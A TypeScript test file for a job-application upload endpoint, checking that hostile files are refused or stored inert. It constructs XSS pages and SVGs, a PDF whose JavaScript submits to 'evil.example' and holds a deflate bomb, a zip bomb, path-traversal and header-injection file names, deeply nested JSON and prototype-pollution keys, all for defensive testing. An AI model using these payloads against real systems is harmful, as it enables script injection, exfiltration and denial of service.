import { randomUUID } from 'node:crypto';
import { deflateRawSync, deflateSync } from 'node:zlib';
import { applicationFileRules, applicationFileTypes } from '@ats/domain';
import { eq } from 'drizzle-orm';
import type { LightMyRequestResponse } from 'fastify';
import { beforeAll, describe, expect, it } from 'vitest';
import { files, jobApplications } from '../../src/db/schema/index.ts';
import { errorCatalogue } from '../../src/errors.ts';
import {
  type ApplicationForm,
  apply,
  completeForm,
  createOfferContext,
  elementOf,
  type OfferContext,
  sample,
} from '../features/offers/fixtures.ts';
import { useTestApp } from '../support/app.ts';
import { fingerprint } from '../support/fingerprint.ts';
import { signedInHeaders } from '../support/sign-in.ts';

/**
 * Hostile uploads through the one upload operation (applyForJobOffer): each is refused with
 * the catalogue's 400 and writes nothing, or is stored inert and served so that no browser
 * runs it (issue 17, "Uploads and input"; docs/decisions/files.md).
 */

const html = Buffer.from('<!doctype html><script>alert(document.cookie)</script>\n', 'utf8');

/** A PDF whose catalogue runs JavaScript on open, and whose page stream inflates to 64 MB. */
function hostilePdf(): Buffer {
  const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 });
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>',
    '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\);) >>',
  ];
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n', 'latin1')];
  const offsets: number[] = [];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  objects.forEach((body, index) => {
    offsets.push(length());
    parts.push(Buffer.from(`${index + 1} 0 obj\n${body}\nendobj\n`, 'latin1'));
  });
  offsets.push(length());
  parts.push(
    Buffer.from(`5 0 obj\n<< /Length ${bomb.length} /Filter /FlateDecode >>\nstream\n`, 'latin1'),
    bomb,
    Buffer.from('\nendstream\nendobj\n', 'latin1'),
  );
  const xrefAt = length();
  const xref = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    Buffer.from(
      `xref\n0 6\n0000000000 65535 f \n${xref}trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`,
      'latin1',
    ),
  );
  return Buffer.concat(parts);
}

const crcTable = Array.from({ length: 256 }, (_, byte) => {
  let crc = byte;
  for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? 0xedb88320 ^ (crc >>> 1) : crc >>> 1;
  return crc >>> 0;
});
function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = (crcTable[(crc ^ byte) & 0xff] ?? 0) ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

/** A .docx-shaped ZIP of one entry, `word/document.xml`, that inflates to `inflatedBytes`. */
function zipBomb(inflatedBytes: number): Buffer {
  const content = Buffer.alloc(inflatedBytes, 0x41);
  const compressed = deflateRawSync(content, { level: 9 });
  const name = Buffer.from('word/document.xml', 'latin1');
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8); // deflate
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(compressed.length, 18);
  local.writeUInt32LE(inflatedBytes, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(compressed.length, 20);
  central.writeUInt32LE(inflatedBytes, 24);
  central.writeUInt16LE(name.length, 28);
  const centralAt = local.length + name.length + compressed.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(centralAt, 16);
  return Buffer.concat([local, name, compressed, central, name, end]);
}

describe('hostile uploads are refused or stored inert', () => {
  const testApp = useTestApp({ applyRateLimit: 10_000 });
  let context: OfferContext;
  let headers: { cookie: string; origin: string };
  let attachmentId: string;

  beforeAll(async () => {
    context = await createOfferContext(testApp);
    headers = await signedInHeaders(testApp.app);
    attachmentId = elementOf(context.elements, 'Attachment').id;
  });

  /** The complete application with `change` applied to its file parts. */
  const formWith = (change: Partial<ApplicationForm>): ApplicationForm => ({
    ...completeForm(context.elements),
    ...change,
  });

  async function expectRefused(send: () => Promise<LightMyRequestResponse>): Promise<void> {
    const before = await fingerprint(testApp);
    const response = await send();
    expect(response.statusCode, response.body).toBe(400);
    // A refused file is named in `field` (its part); offers/rejections.test.ts checks which.
    const { field, ...body } = response.json() as { field?: unknown };
    expect(body).toEqual({ status: 400, message: errorCatalogue[400] });
    expect(field === undefined || typeof field === 'string').toBe(true);
    expect(await fingerprint(testApp)).toEqual(before);
  }

  /** Applies, expecting success, and answers the stored file rows with their served answers. */
  async function applyAndServe(form: ApplicationForm | (() => Promise<LightMyRequestResponse>)) {
    const response =
      typeof form === 'function' ? await form() : await apply(testApp, context.openId, form);
    expect(response.statusCode, response.body).toBe(200);
    const { id } = response.json() as { id: string };
    const { db } = testApp.database;
    const [application] = await db.select().from(jobApplications).where(eq(jobApplications.id, id));
    if (!application) throw new Error('no application row');
    const rows = await db
      .select()
      .from(files)
      .where(eq(files.recruiteeId, application.recruiteeId));
    return Promise.all(
      rows
        .filter((row) => row.createdAt.getTime() >= application.createdAt.getTime())
        .map(async (row) => ({
          row,
          served: await testApp.app.inject({
            method: 'GET',
            url: `/api/Files/JobApplications/${id}/Files/${row.id}`,
            headers,
          }),
          applicationId: id,
        })),
    );
  }

  it('refuses content whose type is disguised by its name or declared type', async () => {
    const disguised: Partial<ApplicationForm>[] = [
      { resume: { bytes: html, name: 'cv.pdf', type: 'application/pdf' } },
      { resume: { bytes: sample.exe, name: 'cv.pdf', type: 'application/pdf' } },
      { photo: { bytes: html, name: 'me.png', type: 'image/png' } },
      { photo: { bytes: sample.pdf, name: 'me.png', type: 'image/png' } },
      {
        attachments: {
          [attachmentId]: { bytes: sample.exe, name: 'portfolio.pdf', type: 'application/pdf' },
        },
      },
      {
        attachments: {
          // An SVG can carry scripts: no file kind takes one, whatever it is called.
          [attachmentId]: {
            bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
            name: 'photo.png',
            type: 'image/png',
          },
        },
        photo: {
          bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
          name: 'photo.svg',
          type: 'image/svg+xml',
        },
      },
    ];
    for (const change of disguised) {
      await expectRefused(() => apply(testApp, context.openId, formWith(change)));
    }
  });

  it('refuses a file over its kind limit, without keeping any part of it', async () => {
    const over = (kind: 'Resume' | 'Attachment') =>
      Buffer.concat([
        sample.pdf,
        Buffer.alloc(applicationFileRules[kind].maxBytes + 1 - sample.pdf.length, 0x20),
      ]);
    await expectRefused(() =>
      apply(
        testApp,
        context.openId,
        formWith({ resume: { bytes: over('Resume'), name: 'cv.pdf' } }),
      ),
    );
    await expectRefused(() =>
      apply(
        testApp,
        context.openId,
        formWith({ attachments: { [attachmentId]: { bytes: over('Attachment'), name: 'a.pdf' } } }),
      ),
    );
  });

  it('keeps a hostile file name only as a sanitised display name, never as a path', async () => {
    const served = await applyAndServe(
      formWith({
        resume: { bytes: sample.pdf, name: '../../etc/passwd.pdf', type: 'application/pdf' },
        coverLetter: { bytes: sample.pdf, name: '..\\..\\x.pdf', type: 'application/pdf' },
        attachments: {
          // NUL, CR/LF (a header injection attempt), ESC and a right-to-left override.
          [attachmentId]: {
            bytes: sample.txt,
            name: 'a\u0000b\r\nSet-Cookie: x=1\u001b\u202Efdp.exe',
            type: 'text/plain',
          },
        },
      }),
    );
    const names = served.map(({ row }) => row.originalName).sort();
    // A browser's FormData sends CR and LF in a file name as %0D%0A (WHATWG); the raw
    // characters are tried in the next test.
    expect(names).toEqual(['ab%0D%0ASet-Cookie: x=1fdp.exe.txt', 'me.png', 'passwd.pdf', 'x.pdf']);
    for (const { row, served: response } of served) {
      // Bytes live under a key of the server's making, inside the storage directory.
      expect(row.storageKey).toMatch(/^applications\/[0-9a-f-]{36}$/);
      expect(response.statusCode).toBe(200);
      expect(response.headers['x-content-type-options']).toBe('nosniff');
      expect(response.headers['set-cookie']).toBeUndefined();
      const disposition = String(response.headers['content-disposition']);
      expect(disposition).not.toMatch(/[\p{Cc}\u202a-\u202e\u2066-\u2069/\\]|\.\./u);
      // The UTF-8 name (RFC 8187) is the stored display name exactly.
      const utf8Name = /filename\*=UTF-8''([^;]+)/.exec(disposition)?.[1] ?? '';
      expect(decodeURIComponent(utf8Name)).toBe(row.originalName);
    }
    const text = served.find(({ row }) => row.contentType === 'text/plain');
    expect(text?.served.headers['content-type']).toMatch(/^text\/plain/);
    expect(text?.served.headers['content-disposition']).toMatch(/^attachment;/);
    expect(text?.served.headers['content-security-policy']).toContain('sandbox');
  });

  /** Applies with the complete form's application and these raw multipart file parts. */
  function applyRaw(fileParts: { headers: string; body: Buffer }[]) {
    const boundary = `----hostile${randomUUID()}`;
    const part = (headers: string, body: Buffer) =>
      Buffer.concat([
        Buffer.from(`--${boundary}\r\n${headers}\r\n\r\n`, 'latin1'),
        body,
        Buffer.from('\r\n'),
      ]);
    const form = completeForm(context.elements);
    const payload = Buffer.concat([
      part(
        'Content-Disposition: form-data; name="application"',
        Buffer.from(JSON.stringify(form.application)),
      ),
      ...fileParts.map(({ headers, body }) => part(headers, body)),
      Buffer.from(`--${boundary}--\r\n`),
    ]);
    return testApp.app.inject({
      method: 'POST',
      url: `/api/JobOffers/${context.openId}/apply`,
      headers: {
        'content-type': `multipart/form-data; boundary=${boundary}`,
        'sec-fetch-site': 'same-origin',
        'idempotency-key': randomUUID(),
      },
      payload,
    });
  }

  it('takes raw CR/LF in a file name as the end of the header line, never as a header', async () => {
    // The parser ends the file name at the line break and reads the rest as a part header
    // of no meaning: the resume is stored under the name before it, no header is injected.
    const served = await applyAndServe(() =>
      applyRaw([
        {
          headers:
            'Content-Disposition: form-data; name="resume"; filename="cv\r\nSet-Cookie: x=1\r\n.pdf"\r\nContent-Type: application/pdf',
          body: sample.pdf,
        },
        {
          headers: 'Content-Disposition: form-data; name="photo"; filename="me.png"',
          body: sample.png,
        },
      ]),
    );
    const resume = served.find(({ row }) => row.contentType === 'application/pdf');
    expect(resume?.row.originalName).toMatch(/^[^\r\n]*$/);
    expect(resume?.served.headers['set-cookie']).toBeUndefined();
    expect(String(resume?.served.headers['content-disposition'])).not.toMatch(/[\r\n]/);
  });

  it('never stores or serves a line break decoded from an RFC 2231 file name (filename*)', async () => {
    // Issue 24: `filename*` is percent-encoded, so %0D%0A would decode into a real line
    // break inside the name. The parser drops such a part: without its resume the
    // application is refused and nothing is kept.
    await expectRefused(() =>
      applyRaw([
        {
          headers:
            'Content-Disposition: form-data; name="resume"; filename*=UTF-8\'\'cv%0D%0ASet-Cookie%3A%20x%3D1%0D%0A.pdf\r\nContent-Type: application/pdf',
          body: sample.pdf,
        },
        {
          headers: 'Content-Disposition: form-data; name="photo"; filename="me.png"',
          body: sample.png,
        },
      ]),
    );
    // Other line and paragraph separators and C1 controls decode, and are left out.
    const served = await applyAndServe(() =>
      applyRaw([
        {
          headers:
            'Content-Disposition: form-data; name="resume"; filename*=UTF-8\'\'cv%E2%80%A8Set-Cookie%3A%20x%3D1%E2%80%A9%C2%85.pdf\r\nContent-Type: application/pdf',
          body: sample.pdf,
        },
        {
          headers: 'Content-Disposition: form-data; name="photo"; filename="me.png"',
          body: sample.png,
        },
      ]),
    );
    const resume = served.find(({ row }) => row.contentType === 'application/pdf');
    expect(resume?.row.originalName).toBe('cvSet-Cookie: x=1.pdf');
    for (const { served: response } of served) {
      expect(response.statusCode).toBe(200);
      expect(response.headers['set-cookie']).toBeUndefined();
      expect(String(response.headers['content-disposition'])).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
    }
  });

  it('refuses an application part 10,000 or 200,000 levels deep, or with prototype keys', async () => {
    // Issue 24: the application part is parsed and checked by the server itself, not by
    // the route's JSON parser.
    const text = JSON.stringify(completeForm(context.elements).application);
    const withInserted = (at: string, inserted: string) => {
      expect(text).toContain(at);
      return text.replace(at, `${at}${inserted},`);
    };
    const broken: string[] = [];
    for (const levels of [10_000, 200_000]) {
      const arrays = `${'['.repeat(levels)}${']'.repeat(levels)}`;
      const objects = `${'{"a":'.repeat(levels / 5)}1${'}'.repeat(levels / 5)}`;
      broken.push(
        arrays,
        withInserted('{', `"deep":${arrays}`),
        withInserted('"personalData":{', `"deep":${objects}`),
        withInserted('"answers":[', arrays),
        withInserted('"answers":[', objects),
      );
    }
    for (const key of ['__proto__', 'constructor', 'prototype']) {
      const polluting = `"${key}":{"polluted":true,"prototype":{"polluted":true}}`;
      broken.push(
        withInserted('{', polluting),
        withInserted('"personalData":{', polluting),
        withInserted('"answers":[{', polluting),
      );
    }
    // Together they change nothing (one fingerprint: each costs a read of every table).
    await expectRefused(async () => {
      let response: LightMyRequestResponse | undefined;
      for (const application of broken) {
        response = await apply(testApp, context.openId, {
          ...completeForm(context.elements),
          application,
        });
        expect(response.statusCode, application.slice(0, 80)).toBe(400);
        expect(response.json()).toEqual({ status: 400, message: errorCatalogue[400] });
      }
      if (!response) throw new Error('no request sent');
      return response;
    });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const health = await testApp.app.inject({ method: 'GET', url: '/api/health' });
    expect(health.statusCode).toBe(200);
  });

  it('stores an HTML page sent as a cover letter as plain text, downloaded under a .txt name', async () => {
    const served = await applyAndServe(
      formWith({ coverLetter: { bytes: html, name: 'letter.html', type: 'text/html' } }),
    );
    const letter = served.find(({ row }) => row.originalName.startsWith('letter'));
    expect(letter?.row).toMatchObject({
      originalName: 'letter.html.txt',
      contentType: 'text/plain',
    });
    expect(letter?.served.headers).toMatchObject({
      'content-type': expect.stringMatching(/^text\/plain/),
      'content-disposition': expect.stringMatching(/^attachment; filename="letter\.html\.txt"/),
      'content-security-policy': expect.stringContaining('sandbox'),
    });
    expect(letter?.served.rawPayload.equals(html)).toBe(true);
  });

  it('stores a zip bomb shaped as a .docx without inflating it, served as a download', async () => {
    const bomb = zipBomb(64 * 1024 * 1024);
    expect(bomb.length).toBeLessThan(128 * 1024);
    const served = await applyAndServe(
      formWith({
        coverLetter: { bytes: bomb, name: 'letter.docx', type: '' },
        attachments: { [attachmentId]: { bytes: bomb, name: 'bomb.zip', type: 'application/zip' } },
      }),
    );
    const docxType = applicationFileTypes.docx.mediaType;
    const docs = served.filter(({ row }) => row.contentType === docxType);
    expect(docs.map(({ row }) => row.originalName).sort()).toEqual([
      'bomb.zip.docx',
      'letter.docx',
    ]);
    for (const { row, served: response } of docs) {
      expect(row.sizeBytes).toBe(bomb.length);
      expect(response.headers['content-type']).toBe(docxType);
      expect(response.headers['content-disposition']).toMatch(/^attachment;/);
      expect(response.rawPayload.equals(bomb)).toBe(true);
    }
  });

  it('stores a PDF with JavaScript and a deflate bomb byte for byte, and merges without running or inflating it', async () => {
    const pdf = hostilePdf();
    const served = await applyAndServe(
      formWith({ resume: { bytes: pdf, name: `${randomUUID()}.pdf`, type: 'application/pdf' } }),
    );
    const resume = served.find(({ row }) => row.contentType === 'application/pdf');
    if (!resume) throw new Error('no resume');
    expect(resume.served.headers).toMatchObject({
      'content-type': 'application/pdf',
      'x-content-type-options': 'nosniff',
    });
    expect(resume.served.rawPayload.equals(pdf)).toBe(true);
    // The merged PDF copies the page stream as it is (never inflated) and answers in time.
    const merged = await testApp.app.inject({
      method: 'GET',
      url: `/api/Files/JobApplications/${resume.applicationId}/MergedPdf`,
      headers,
    });
    expect(merged.statusCode).toBe(200);
    expect(merged.headers['content-type']).toBe('application/pdf');
    expect(merged.rawPayload.length).toBeLessThan(4 * 1024 * 1024);
  });
});
